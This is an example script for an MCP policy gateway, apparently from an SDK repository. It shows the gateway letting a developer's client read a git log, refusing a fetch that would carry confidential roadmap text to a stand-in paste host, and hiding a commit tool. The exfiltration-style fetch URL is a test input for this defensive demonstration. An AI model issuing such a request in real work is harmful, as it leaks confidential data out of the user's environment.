"""d2-gateway in front of mcp-server-git and mcp-server-fetch, offline.

What it shows: a developer's MCP client (the real ``mcp`` client, as a desktop
assistant would be) starts ``d2-gateway serve --stdio``; the gateway starts both
upstream servers, shows the developer only the tools the policy grants, lets them
read the repository, then refuses the fetch that would carry what they read out
(data flow), and refuses a commit outright (not granted: it looks like no such
tool exists). Nothing leaves the machine: the refused fetch never reaches
mcp-server-fetch.

Run: ``python examples/gateway/agent.py`` (needs ``pip install "d2-sdk[gateway]"
mcp-server-git mcp-server-fetch``; all three are in this repository's dev
environment).
"""

from __future__ import annotations

import datetime as dt
import os
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import anyio
from mcp import Client, StdioServerParameters, types

HERE = Path(__file__).resolve().parent
BIN = Path(sys.executable).parent


def command(name: str) -> str:
    found = BIN / name
    return str(found) if found.exists() else (shutil.which(name) or name)


def fresh_policy(where: Path) -> Path:
    """policy.yaml with `expires` three days from now (local policies expire)."""
    soon = (dt.datetime.now(dt.timezone.utc) + dt.timedelta(days=3)).strftime("%Y-%m-%dT%H:%M:%SZ")
    text = re.sub(r'expires: "[^"]+"', f'expires: "{soon}"', (HERE / "policy.yaml").read_text())
    path = where / "policy.yaml"
    path.write_text(text)
    return path


def make_repo(where: Path) -> Path:
    repo = where / "repo"
    env = {**os.environ, "GIT_AUTHOR_NAME": "Ada", "GIT_AUTHOR_EMAIL": "ada@example.invalid",
           "GIT_COMMITTER_NAME": "Ada", "GIT_COMMITTER_EMAIL": "ada@example.invalid"}  # fmt: skip
    subprocess.run(["git", "init", "-q", str(repo)], check=True, env=env)
    (repo / "ROADMAP.md").write_text("Q3: acquire Initech (confidential)\n")
    subprocess.run(["git", "-C", str(repo), "add", "."], check=True, env=env)
    subprocess.run(
        ["git", "-C", str(repo), "commit", "-q", "-m", "roadmap: acquire Initech"],
        check=True,
        env=env,
    )
    return repo


def said(result: types.CallToolResult) -> str:
    return " ".join(c.text for c in result.content if isinstance(c, types.TextContent))


async def main() -> None:
    with tempfile.TemporaryDirectory() as tmp:
        where = Path(tmp)
        repo = make_repo(where)
        gateway = StdioServerParameters(
            command=command("d2-gateway"),
            args=[
                "serve",
                "--stdio",
                "--policy",
                str(fresh_policy(where)),
                "--upstream",
                f"git=stdio:{command('mcp-server-git')} --repository {repo}",
                "--upstream",
                f"fetch=stdio:{command('mcp-server-fetch')}",
                "--user",
                "alice",
                "--roles",
                "developer",
            ],
            env={"D2_SILENT": "1", "PATH": os.environ.get("PATH", "")},
        )
        async with Client(gateway, mode="legacy", cache=None) as client:
            tools = sorted(t.name for t in (await client.list_tools()).tools)
            print(f"alice (developer) sees: {', '.join(tools)}")

            log = await client.call_tool("git__git_log", {"repo_path": str(repo)})
            first = next(line for line in said(log).splitlines() if "Message" in line)
            print(f"git__git_log       allowed: {first.strip()}")

            out = await client.call_tool(
                "fetch__fetch", {"url": "https://paste.example.invalid/new?text=Initech"}
            )
            reason = (out.structured_content or {}).get("d2_reason")
            print(f"fetch__fetch       refused ({reason}): {said(out)}")

            commit = await client.call_tool(
                "git__git_commit", {"repo_path": str(repo), "message": "oops"}
            )
            print(f"git__git_commit    refused: {said(commit)}")


if __name__ == "__main__":
    anyio.run(main)
